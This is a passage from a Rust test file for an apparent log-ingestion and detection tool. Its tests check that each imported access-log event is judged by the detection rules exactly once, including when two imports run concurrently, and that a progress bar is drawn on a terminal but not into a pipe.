    assert_eq!(links(&conn), (33_000, 33_000, 33_000, 0), "each event judged once, as the row it is");
    assert_eq!(rampart::store::detections::position(&conn).unwrap(), 33_000);
}

#[test]
fn an_import_on_its_own_is_judged_whole_alongside_its_writes() {
    // What the rules judged while the rows went in, the last batches included: nothing may be
    // left to judge again after the import (which would also recall the rules' windows).
    let dir = tempfile::tempdir().unwrap();
    let (db, log) = (dir.path().join("a.db"), dir.path().join("scan.log"));
    std::fs::write(&log, scanner_log(0, 30_000)).unwrap();
    let conn = rampart::store::open(&db, rampart::store::Access::ReadWrite).unwrap();
    let rules = rampart::detect::Rules::default();
    let alongside = rampart::ingest::Alongside { rules: Some(&rules), meter: None };
    let counts = rampart::ingest::access_file(&conn, &log, "acme", alongside).unwrap();
    assert_eq!(counts.stored, 30_000);
    assert_eq!((counts.judged.events, counts.judged.alerts), (30_000, 30_000), "judged alongside");
    assert_eq!(rampart::store::detections::position(&conn).unwrap(), 30_000);
    assert_eq!(links(&conn), (30_000, 30_000, 30_000, 0));
}

#[test]
fn two_imports_at_once_judge_each_event_once() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("t.db");
    rampart::store::open(&db, rampart::store::Access::ReadWrite).unwrap();
    let logs: Vec<_> = (0..2)
        .map(|k| {
            let log = dir.path().join(format!("scan{k}.log"));
            std::fs::write(&log, scanner_log(k * 20_000, 20_000)).unwrap();
            log
        })
        .collect();
    let imports: Vec<_> = logs
        .iter()
        .map(|log| {
            crate::support::rampart()
                .args(["--db", db.to_str().unwrap(), "ingest", "access", log.to_str().unwrap()])
                .stdout(Stdio::null())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    let said: Vec<String> = imports
        .into_iter()
        .map(|i| {
            let out = i.wait_with_output().unwrap();
            let err = String::from_utf8_lossy(&out.stderr).into_owned();
            assert!(out.status.success(), "{err}");
            err
        })
        .collect();
    let conn = rampart::store::open(&db, rampart::store::Access::ReadOnly).unwrap();
    assert_eq!(links(&conn), (40_000, 40_000, 40_000, 0), "{said:?}");
    assert_eq!(said.iter().map(|s| judged_in(s)).sum::<u64>(), 40_000, "{said:?}");
    assert_eq!(rampart::store::detections::position(&conn).unwrap(), 40_000);
}

#[test]
fn progress_is_drawn_on_a_terminal_and_never_into_a_pipe() {
    use portable_pty::{native_pty_system, CommandBuilder, PtySize};
    use std::io::Read;
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("access.log");
    std::fs::write(&log, scanner_log(0, 20_000)).unwrap();
    // Piped: the summary and nothing else.
    let (code, out, err) = rampart(&dir.path().join("p.db"), &["ingest", "access", log.to_str().unwrap()], None);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("20000 lines, 20000 stored"), "{err}");
    for progress in ["\r", "\x1b", "rows/s", "left"] {
        assert!(!err.contains(progress) && !out.contains(progress), "{progress:?} in piped output: {err:?}");
    }
    // On a terminal: the bar (with the file's name, rows and rate), taken away before the summary.
    let pty = native_pty_system().openpty(PtySize { rows: 24, cols: 120, pixel_width: 0, pixel_height: 0 }).unwrap();
    let mut command = CommandBuilder::new(BIN);
    command.args(["--db", dir.path().join("t.db").to_str().unwrap(), "ingest", "access", log.to_str().unwrap()]);
    command.cwd(dir.path());
    let mut child = pty.slave.spawn_command(command).unwrap();
    drop(pty.slave);
    let mut reader = pty.master.try_clone_reader().unwrap();
    let reading = std::thread::spawn(move || {
        let mut all = Vec::new();
        let _ = reader.read_to_end(&mut all);
        String::from_utf8_lossy(&all).into_owned()
    });
    assert!(child.wait().unwrap().success());
    drop(pty.master);
    let screen = reading.join().unwrap();
    let bar = screen.find("access.log").and_then(|at| screen[at..].find(" rows/s").map(|end| &screen[at..at + end]));
    assert!(bar.is_some_and(|b| b.contains("% [") && b.contains(" rows ")), "no progress bar in {screen:?}");
    let summary = screen.find("20000 lines, 20000 stored").unwrap_or_else(|| panic!("{screen:?}"));
    let cleared = screen[..summary].rfind("\r\x1b[2K").unwrap_or_else(|| panic!("the bar stays: {screen:?}"));
    assert!(!screen[cleared..summary].contains("rows/s"), "the bar is taken away before the summary: {screen:?}");
}
